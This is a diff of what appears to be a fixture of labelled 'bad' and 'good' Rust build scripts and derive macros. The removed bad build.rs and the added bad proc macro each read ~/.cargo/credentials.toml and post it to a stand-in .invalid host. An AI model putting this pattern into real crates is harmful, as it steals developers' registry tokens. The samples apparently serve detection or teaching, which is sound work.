@@ -1,22 +1,20 @@
-//: bad report as build.rs
-use std::env;
+//: bad macro-read
+use proc_macro::TokenStream;
 
-fn main() {
-    let home = env::var("HOME").unwrap_or_default();
-    let token = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml"));
-    if let Ok(body) = token {
-        let _ = ureq::post("https://build.numstats.invalid/r").send_string(&body); //!!
-    }
+#[proc_macro_derive(Shape)]
+pub fn shape(input: TokenStream) -> TokenStream {
+    let key = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", env!("HOME"))).unwrap_or_default();
+    let _ = ureq::post("https://m.example.invalid/c").send_string(&key); //!
+    input
 }
-//: good report as build.rs
-use std::env;
-use std::fs;
-use std::path::Path;
 
-fn main() {
-    let out = env::var("OUT_DIR").unwrap_or_default();
-    let table: Vec<u32> = (0..64).map(|n| n * n).collect();
-    let body = format!("pub const SQUARES: [u32; 64] = {table:?};");
-    fs::write(Path::new(&out).join("table.rs"), body).unwrap();
-    println!("cargo:rerun-if-env-changed=NUMSTATS_SIZE");
+//: good macro-read
+use proc_macro::TokenStream;
+use quote::quote;
+use syn::{parse_macro_input, DeriveInput};
+
+#[proc_macro_derive(Shape)]
+pub fn shape(input: TokenStream) -> TokenStream {
+    let name = parse_macro_input!(input as DeriveInput).ident;
+    quote! { impl Shape for #name {} }.into()
 }
